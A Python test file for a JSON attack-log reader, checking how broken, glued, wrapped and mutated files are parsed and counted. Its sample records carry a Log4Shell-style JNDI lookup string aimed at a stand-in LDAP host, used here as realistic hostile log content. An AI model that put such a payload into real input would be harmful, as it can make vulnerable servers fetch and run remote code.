"""Broken files: every whole object is kept, everything else is counted."""

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from attackviz.account import Account
from attackviz.formats.jsonreader import read_json
from attackviz.formats.plan import Plan

FIELDS = ["t", "ip", "n", "c.proto"]
TEN = [
    {"t": 1741687200 + i, "ip": f"10.0.0.{i}", "n": i, "c": {"proto": "ssh"}, "u": '/?x=${jndi:ldap://e/a}"}{"'}
    for i in range(10)
]
LINES = [json.dumps(o).encode() for o in TEN]


def run(data, step=1 << 16, ids=False, limit=1 << 20):
    account = Account()
    columns: dict[str, list] = {path: [] for path in FIELDS}
    made = []
    chunks = [data[i : i + step] for i in range(0, len(data), step)]
    for batch in read_json(chunks, Plan(FIELDS), account, "x.json", ids, limit):
        made += batch.ids
        for path in FIELDS:
            columns[path] += batch.columns[path]
    assert account.closes()
    assert account.events == len(columns["ip"])
    return columns, account, made


def join(lines, between=b"\n"):
    return between.join(lines) + b"\n"


@pytest.mark.parametrize(
    ("data", "events", "bad", "salvaged", "structure", "blank"),
    [
        pytest.param(join(LINES), 10, {}, 0, 0, 0, id="plain"),
        pytest.param(b"\n".join(LINES), 10, {}, 0, 0, 0, id="no final newline"),
        pytest.param(join(LINES, b"\r\n"), 10, {}, 0, 0, 0, id="CRLF"),
        pytest.param(join(LINES, b"\n\n \n"), 10, {}, 0, 0, 18, id="blank lines"),
        pytest.param(join(LINES) + b"\n\n", 10, {}, 0, 0, 2, id="blank lines at the end"),
        pytest.param(join(LINES, b""), 10, {}, 9, 0, 0, id="all glued"),
        pytest.param(join([*LINES[:3], b"".join(LINES[3:5]), *LINES[5:]]), 10, {}, 1, 0, 0, id="two glued"),
        pytest.param(join([*LINES[:5], b"garbage here", *LINES[5:]]), 10, {"not JSON": 1}, 0, 0, 0, id="garbage"),
        pytest.param(join([*LINES[:9], LINES[9][:25]]), 9, {"broken JSON": 1}, 0, 0, 0, id="last line cut"),
        pytest.param(join([LINES[0][:25] + LINES[1], *LINES[2:]]), 9, {"broken JSON": 1}, 1, 0, 0, id="cut and glued"),
        pytest.param(
            join([LINES[0][:25] + LINES[1] + LINES[2], *LINES[3:]]), 9, {"broken JSON": 1}, 2, 0, 0, id="cut, two glued"
        ),
        pytest.param(join([b"junk " + LINES[0], *LINES[1:]]), 10, {"not JSON": 1}, 1, 0, 0, id="junk before"),
        pytest.param(join([LINES[0] + b" junk", *LINES[1:]]), 10, {"not JSON": 1}, 0, 0, 0, id="junk after"),
        pytest.param(join([b'{"t":"a\nb"}', *LINES[1:]]), 9, {"broken JSON": 1, "not JSON": 1}, 0, 0, 0, id="newline"),
        pytest.param(join([b'{"ip":"\xff\xfe"}', *LINES[1:]]), 10, {}, 1, 0, 0, id="not UTF-8"),
        pytest.param(join([b"\x00" * 40, *LINES]), 10, {"NUL bytes": 1}, 0, 0, 0, id="NUL bytes"),
        pytest.param(join([b"\x00\x00" + LINES[0], *LINES[1:]]), 10, {"not JSON": 1}, 1, 0, 0, id="NUL before"),
        pytest.param(b"\xef\xbb\xbf" + join(LINES), 10, {}, 0, 0, 0, id="byte-order mark"),
        pytest.param(b"[" + b",\n".join(LINES) + b"]", 10, {}, 0, 2, 0, id="array, brackets on lines"),
        pytest.param(b"[\n" + b",\n".join(LINES) + b"\n]\n", 10, {}, 0, 2, 0, id="array, brackets alone"),
        pytest.param(b"[\n" + b"\n,".join(LINES) + b"\n]\n", 10, {}, 0, 2, 0, id="array, commas before"),
        pytest.param(b"[" + b",".join(LINES) + b"]", 10, {}, 0, 2, 0, id="array on one line"),
        pytest.param(b"[\n" + b",\n".join(LINES) + b",\n]\n", 10, {}, 0, 2, 0, id="comma after the last"),
        pytest.param(
            b"[" + b",\n".join([*LINES[:5], b"", *LINES[5:]]) + b"]", 10, {"only a comma": 1}, 0, 2, 0, id="comma"
        ),
        pytest.param(b"[]\n", 0, {}, 0, 2, 0, id="empty array"),
        pytest.param(b'{"attacks":[\n' + b",\n".join(LINES) + b"\n]}", 10, {}, 0, 2, 0, id="wrapper on lines"),
        pytest.param(b'{"events":[' + b",".join(LINES) + b"]}", 10, {}, 0, 2, 0, id="wrapper on one line"),
        pytest.param(
            b'{"events":[' + b",".join(b'{"info":' + x + b"}" for x in LINES) + b"]}", 10, {}, 0, 2, 0, id="info"
        ),
        pytest.param(
            b'{"events":[\n' + b",\n".join(b'{"info":' + x + b"}" for x in LINES) + b"\n]}", 10, {}, 0, 2, 0, id="infos"
        ),
        pytest.param(join([b'{"other":1}', b"{}", *LINES]), 10, {"no known field": 2}, 0, 0, 0, id="no known field"),
        pytest.param(join([b"12", b'"ip"', b"null", *LINES]), 10, {"not JSON": 3}, 0, 0, 0, id="no objects"),
        pytest.param(
            join([b'{"x":' + b"[" * 90_000 + b"]" * 90_000 + b"}", *LINES]),
            10,
            {"nested too deeply": 1},
            0,
            0,
            0,
            id="deep",
        ),
        pytest.param(
            join([b'{"x":"' + b"a" * (3 << 20) + b'"}', *LINES]), 10, {"line too long": 1}, 0, 0, 0, id="long"
        ),
        pytest.param(
            join([*LINES, b'{"x":"' + b"a" * (3 << 20)]), 10, {"line too long": 1}, 0, 0, 0, id="long at the end"
        ),
        pytest.param(b"\xef\xbb\xbf", 0, {}, 0, 0, 0, id="byte-order mark alone"),
        pytest.param(b"", 0, {}, 0, 0, 0, id="empty"),
    ],
)  # fmt: skip
def test_broken_files(data, events, bad, salvaged, structure, blank):
    columns, account, _ = run(data)
    assert (account.events, dict(account.bad), account.salvaged, account.structure, account.blank) == (
        events,
        bad,
        salvaged,
        structure,
        blank,
    )
    kept = [ip for ip in columns["ip"] if ip and ip.startswith("10.")]
    assert kept == sorted(kept)


def test_types_may_drift():
    drift = [1, "5", 5.5, None, True, [1], {"a": 1}, 2**70]
    columns, account, _ = run(join([json.dumps({"ip": "x", "n": n}).encode() for n in drift]))
    assert columns["n"] == drift
    assert not account.bad


def test_an_object_may_be_something_else():
    columns, account, _ = run(join([b'{"ip":"a","c":null}', b'{"ip":"b","c":"s"}', LINES[0], b'{"ip":"d","c":[1]}']))
    assert columns["c.proto"] == [None, None, "ssh", None]
    assert account.events == 4


def test_last_of_repeated_keys_counts():
    columns, _, _ = run(b'{"ip":"a","ip":"b"}\n')
    assert columns["ip"] == ["b"]


def test_lone_surrogates_are_kept():
    columns, account, _ = run(b'{"ip":"\\ud800"}\n')
    assert account.events == 1 and len(columns["ip"]) == 1


def test_object_nested_in_a_cut_one_is_no_event():
    _, account, _ = run(b'{"t":1,"attempts":[{"t":2,"ip":"x"}],"n":tr\n')
    assert (account.events, account.bad_total) == (0, 1)


def test_memory_of_a_long_line_is_bounded():
    fed = 0

    def endless():
        nonlocal fed
        yield b'{"ip":"'
        for _ in range(64):
            fed += 1
            yield b"a" * (1 << 20)
        yield b'"}\n' + LINES[0] + b"\n"

    account = Account()
    batches = list(read_json(endless(), Plan(FIELDS), account, "x", limit=2 << 20))
    assert fed == 64
    assert sum(b.length for b in batches) == 1
    assert dict(account.bad) == {"line too long": 1}
    assert len(account.samples["line too long"][0].text) <= 400


@pytest.mark.parametrize(
    ("before", "between", "after"), [(b"[", b", ", b"]\n"), (b'{"events":[', b",", b"]}"), (b"", b"", b"")]
)
@pytest.mark.parametrize("step", [1000, 4096])
def test_line_longer_than_the_limit_is_read_in_parts_if_it_holds_many_objects(before, between, after, step):
    objects = [json.dumps({"ip": f"10.0.0.{n}", "u": "é{}[" * 20}, ensure_ascii=False).encode() for n in range(2000)]
    data = before + between.join(objects) + after
    columns, account, ids = run(data, step, ids=True, limit=50_000)
    assert columns["ip"] == [f"10.0.0.{n}" for n in range(2000)]
    assert not account.bad
    assert account.structure == (2 if before else 0)
    assert len(set(ids)) == 2000
    assert run(data, 777, ids=True, limit=50_000)[2] == ids


def test_ids_tell_equal_lines_apart_and_stay_when_the_file_is_read_again():
    data = join([LINES[0], LINES[0], LINES[1] + LINES[2]])
    _, _, ids = run(data, ids=True)
    assert len(set(ids)) == 4
    assert run(data, ids=True, step=7)[2] == ids
    assert run(join([LINES[5]]) + data, ids=True)[2][1:] != ids


MUTATIONS = st.lists(
    st.tuples(
        st.sampled_from(["cut", "glue", "drop", "insert", "swap", "repeat"]),
        st.integers(0, 10_000),
        st.sampled_from([b"\n", b"}", b"{", b'"', b",", b"\x00", b"\xff", b"]", b"[", b"\\", b"}{", b'{"t":', b"\r\n"]),
    ),
    max_size=12,
)


def mutate(data, mutations):
    for kind, where, what in mutations:
        at = where % (len(data) + 1)
        if kind == "cut":
            data = data[:at] + data[min(len(data), at + where % 60) :]
        elif kind == "glue":
            nearest = data.find(b"\n", at)
            data = data[:nearest] + data[nearest + 1 :] if nearest >= 0 else data
        elif kind == "drop":
            data = data[:at]
        elif kind == "insert":
            data = data[:at] + what + data[at:]
        elif kind == "swap":
            data = data[:at] + what + data[at + len(what) :]
        else:
            data = data[:at] + data[max(0, at - 80) : at] + data[at:]
    return data


SHAPES = st.sampled_from(
    [
        join(LINES),
        b"[" + b",\n".join(LINES) + b"\n]",
        b'{"events":[\n' + b",\n".join(LINES) + b"]}",
        join(LINES, b"\r\n"),
    ]
)  # fmt: skip


@given(SHAPES, MUTATIONS, st.integers(1, 300))
def test_account_of_mutated_files_closes_and_whole_lines_survive(shape, mutations, step):
    data = mutate(shape, mutations)
    columns, account, _ = run(data, step)  # closes, and has as many rows as events
    assert account.pieces >= len(data.removeprefix(b"\xef\xbb\xbf").removesuffix(b"\n").split(b"\n")) - (not data)
    whole = [line for line in data.split(b"\n") if line.strip() in LINES]
    for line in whole:
        assert columns["ip"].count(json.loads(line)["ip"]) >= whole.count(line)


@given(SHAPES, MUTATIONS)
def test_fast_and_slow_way_agree(shape, mutations):
    data = mutate(shape, mutations)
    fast, account, _ = run(data)
    slow, other, ids = run(data, ids=True)  # ids are made line by line
    assert fast == slow
    assert account.to_dict() == other.to_dict()
    assert len(ids) == other.events


SCALARS = st.none() | st.booleans() | st.integers(-(2**63), 2**63 - 1) | st.text()
NUMBERS = st.floats(allow_nan=False, allow_infinity=False)
VALUES = st.recursive(
    SCALARS | NUMBERS,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=3), inner, max_size=3),
    max_leaves=6,
)


OTHERS = st.dictionaries(st.sampled_from(["t", "n", "c", "z"]), VALUES)


@given(st.lists(st.tuples(st.text(min_size=1), OTHERS), max_size=8))
def test_values_equal_those_of_the_standard_decoder(pairs):
    objects = [{"ip": ip} | rest for ip, rest in pairs]
    data = b"".join(json.dumps(o, ensure_ascii=False).encode() + b"\n" for o in objects)
    columns, account, _ = run(data)
    assert account.events == account.pieces == len(objects)
    for path in ("t", "ip", "n"):
        assert columns[path] == [o.get(path) for o in objects]
